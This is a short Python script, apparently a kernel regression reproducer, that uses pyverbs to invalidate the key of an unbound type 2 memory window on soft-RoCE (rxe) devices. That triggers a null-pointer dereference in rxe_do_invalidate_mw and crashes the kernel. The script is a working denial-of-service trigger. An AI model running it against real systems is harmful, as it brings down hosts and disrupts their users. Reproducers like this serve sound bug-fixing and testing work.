#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Invalidating the key of an unbound type 2 memory window stops the kernel.

rxe_check_invalidate_mw (rxe_mw.c) refuses a window in state INVALID, but accepts one in state FREE.
rxe_do_invalidate_mw then dereferences the null pointers to its queue pair and region. With "local", the program posts
a local invalidation; with "sent", the peer's send invalidates the key.

It crashes the kernel, so run it in a virtual machine of its own. Needs ends.py beside it, pyverbs, and two rxe
devices:
    tools/lab run -- python3 tools/reproductions/free-window.py local rxe0 10.9.0.1 rxe1 10.9.0.2 veth1
The exit code is 0 if the defect is not present; otherwise the program does not end."""
import sys

import enums as e
from ends import pair
from pyverbs.mr import MW
from pyverbs.wr import SGE, RecvWR, SendWR


def main(how, left, left_address, right, right_address, _interface):
    requester, owner = pair(left, left_address, right, right_address)
    window = MW(owner.pd, e.IBV_MW_TYPE_2)
    if how == 'local':
        request = SendWR(wr_id=1, opcode=e.IBV_WR_LOCAL_INV, send_flags=e.IBV_SEND_SIGNALED)
        requester = owner
    else:
        owner.qp.post_recv(RecvWR(wr_id=2, sg=[SGE(owner.mr.buf, 64, owner.mr.lkey)], num_sge=1))
        request = SendWR(wr_id=1, opcode=e.IBV_WR_SEND_WITH_INV, num_sge=1, sg=requester.sge(0), send_flags=e.IBV_SEND_SIGNALED)
    request.imm_data = window.rkey  # the same place as invalidate_rkey
    print('invalidating a window that is not bound', flush=True)
    requester.qp.post_send(request)
    owner.completions(1, 10)
    window.close()
    return 0


if len(sys.argv) != 7 or sys.argv[1] not in ('local', 'sent'):
    sys.exit(__doc__)
sys.exit(main(*sys.argv[1:]))
